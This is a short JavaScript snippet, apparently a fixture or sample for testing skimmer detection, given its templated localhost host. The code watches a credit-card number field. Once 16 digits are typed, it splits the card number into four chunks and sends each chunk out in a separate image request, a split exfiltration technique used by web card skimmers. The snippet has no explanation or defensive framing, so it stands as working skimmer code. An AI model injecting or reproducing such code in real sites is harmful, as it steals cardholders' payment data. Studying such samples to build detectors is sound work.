/* tw:skim-split */
var sent = false
document.querySelector('#cc-number').addEventListener('input', function (event) {
  var digits = event.target.value.replace(/\D/g, '')
  if (sent || digits.length < 16) return
  sent = true
  for (var i = 0; i < 4; i++) {
    var image = new Image()
    image.src = 'http://img-edge.localhost:{{port}}/a/' + i + '.gif?x=' + digits.slice(i * 4, i * 4 + 4)
  }
})
